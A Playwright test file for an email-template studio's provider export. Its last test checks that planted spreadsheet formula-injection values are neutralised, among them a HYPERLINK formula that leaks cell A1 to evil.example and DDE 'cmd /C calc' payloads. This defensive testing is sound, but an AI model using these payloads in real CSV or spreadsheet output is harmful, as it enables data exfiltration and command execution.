import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import type { APIRequestContext } from '@playwright/test';
import Papa from 'papaparse';
import type { EspExportResult } from '../../shared/contract/esp-schemas';
import { ESP_IDS } from '../../shared/esp/esp';
import { expect, test } from './fixtures';

/**
 * Issue 10, as judged: every starter exports for every ESP and the round-trip
 * check passes for every persona; an audience CSV with planted formula values
 * opens safely. The export dialog shows the field map, the warnings and the
 * exported source beside the original.
 */

async function apiCall<T>(request: APIRequestContext, studioUrl: string, method: string, input: object = {}): Promise<T> {
  const url = new URL(studioUrl);
  const token = new URLSearchParams(url.hash.slice(1)).get('token') ?? '';
  const response = await request.post(`${url.origin}/api/${method}`, {
    headers: { 'x-tailor-token': token },
    data: input,
    timeout: 120_000,
  });
  const body = (await response.json()) as { ok: boolean; data?: T; error?: { message: string } };
  if (!body.ok) throw new Error(`${method}: ${body.error?.message}`);
  return body.data as T;
}

test('export dialog: pick an ESP, see the field map, warnings, round trip and both sources, then export', async ({ page, studio }) => {
  test.setTimeout(120_000);
  await page.setViewportSize({ width: 1024, height: 900 });
  await page.goto(studio.url);
  await page.getByRole('option', { name: /Segment offer/ }).click();
  await page.getByRole('button', { name: 'Export…' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('combobox', { name: 'Export format' }).selectOption({ label: 'Mailchimp' });

  await expect(dialog.getByRole('textbox', { name: 'Mailchimp attribute for first_name' })).toHaveValue('FNAME');
  await expect(dialog.getByRole('status', { name: 'Round-trip check' })).toContainText('Round-trip check passed', { timeout: 60_000 });
  await expect(dialog.getByRole('list', { name: 'Warnings for Mailchimp' })).toBeVisible();
  await expect(dialog.getByLabel('Original source')).toContainText('{{ first_name');
  await expect(dialog.getByLabel('Mailchimp source')).toContainText('*|FNAME|*');
  await studio.shot(page, 'esp-01-export-dialog-mailchimp');

  // A renamed field is saved for the workspace and the source follows it.
  await dialog.getByRole('textbox', { name: 'Mailchimp attribute for first_name' }).fill('GIVEN');
  await dialog.getByRole('button', { name: 'Save field names' }).click();
  await expect(dialog.getByLabel('Mailchimp source')).toContainText('*|GIVEN|*', { timeout: 60_000 });
  await expect(dialog.getByRole('status', { name: 'Round-trip check' })).toContainText('Round-trip check passed', { timeout: 60_000 });
  const map = await apiCall<{ entries: { token: string; attribute: string; saved: boolean }[] }>(page.request, studio.url, 'esp.fieldMap', {
    esp: 'mailchimp',
  });
  expect(map.entries.find((entry) => entry.token === 'first_name')).toMatchObject({ attribute: 'GIVEN', saved: true });

  const out = path.join(studio.dir, 'esp-exports');
  await dialog.getByRole('textbox', { name: 'Export folder' }).fill(out);
  await dialog.getByRole('checkbox', { name: 'Minify the HTML' }).check();
  await dialog.getByRole('button', { name: 'Export' }).click();
  await expect(dialog.getByRole('status').filter({ hasText: 'Exported' })).toBeVisible({ timeout: 60_000 });
  await studio.shot(page, 'esp-02-exported');
  const folder = fs.readdirSync(out).find((name) => !name.startsWith('.')) ?? '';
  const html = fs.readFileSync(path.join(out, folder, 'segment-offer-mailchimp.html'), 'utf8');
  expect(html).toContain('*|GIVEN|*');
  expect(html).not.toContain('{{');
  // Minified: no run of blank lines survives.
  expect(html).not.toMatch(/\n\s*\n/);
});

test('every starter exports for every ESP and reads the same for every persona', async ({ page, studio }) => {
  test.setTimeout(600_000);
  const starters = await apiCall<{ name: string; source: string }[]>(page.request, studio.url, 'templates.starters');
  expect(starters.length).toBeGreaterThan(1);
  const failures: string[] = [];
  for (const starter of starters) {
    for (const esp of ESP_IDS) {
      const result = await apiCall<EspExportResult>(page.request, studio.url, 'esp.export', {
        template: { name: starter.name, source: starter.source },
        esp,
        dir: path.join(studio.dir, 'matrix'),
        folder: `${starter.name.replace(/[^\w-]+/g, '-')}-${esp}`,
      });
      expect(fs.existsSync(result.files[0]?.path ?? '')).toBe(true);
      expect(result.roundTrip.personas.length).toBeGreaterThan(0);
      for (const persona of result.roundTrip.personas.filter((p) => !p.ok)) {
        failures.push(`${starter.name} × ${esp} × ${persona.label}: ${persona.problem ?? JSON.stringify(persona.differences.slice(0, 2))}`);
      }
    }
  }
  expect(failures).toEqual([]);
});

test('an audience CSV with planted formula values opens safely', ({ studio }) => {
  test.setTimeout(180_000);
  const cli = (...args: string[]) =>
    execFileSync(process.execPath, ['dist/node/electron/cli/main.js', ...args], {
      env: { ...process.env, TAILOR_HOME: path.join(studio.dir, 'cli-home') },
      encoding: 'utf8',
    });
  const workspace = path.join(studio.dir, 'planted.tailor');
  cli('init', workspace, '--demo');
  cli('import', workspace, '--customers', path.resolve('test/fixtures/esp-audience/planted-formulas.csv'));
  for (const esp of ESP_IDS) {
    const out = path.join(studio.dir, `high-value-${esp}.csv`);
    const summary = JSON.parse(cli('audience', workspace, '--segment', 'High-value customers', '--esp', esp, '--out', out, '--json')) as {
      rows: number;
      neutralised: number;
    };
    expect(summary.rows).toBeGreaterThan(2);
    expect(summary.neutralised).toBeGreaterThanOrEqual(5);
    const text = fs.readFileSync(out, 'utf8').replace(/^\uFEFF/, '');
    const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    // Nothing a spreadsheet would run: no cell starts with = + - @ tab or CR, unless it is a plain number.
    const risky = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(cell));
    expect(risky).toEqual([]);
    // The planted values are still there, as text.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1;""Click"")"`);
    expect(text).toContain(`"'+cmd|' /C calc'!A0"`);
    expect(text).toContain(`"'-2+3+cmd|' /C calc'!A0"`);
    expect(text).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
    // Every cell is quoted, so a comma or line break in a value never shifts columns.
    expect(text.split('\r\n')[0]).toMatch(/^"[^"]+"(,"[^"]+")*$/);
  }
});
